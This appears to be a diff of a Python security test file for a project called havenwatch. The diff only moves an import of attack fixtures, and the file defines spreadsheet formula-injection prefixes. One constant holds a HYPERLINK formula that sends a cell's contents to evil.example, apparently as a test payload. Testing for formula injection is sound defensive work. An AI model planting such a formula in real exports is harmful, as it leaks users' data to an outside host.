@@ -14,7 +14,6 @@ from click.testing import CliRunner
 from icalendar import Calendar
 from sqlalchemy import select
 
-from attacks.conftest import Served, csrf_token
 from havenwatch.access.api_tokens import create_token
 from havenwatch.access.scope import Scope
 from havenwatch.cases.events import list_events
@@ -23,6 +22,7 @@ from havenwatch.cli import cli
 from havenwatch.core.clock import today
 from havenwatch.reports.publication import publish_release
 from havenwatch.store.schema import cases, people
+from tests.security.attacks.conftest import Served, csrf_token
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the file")'
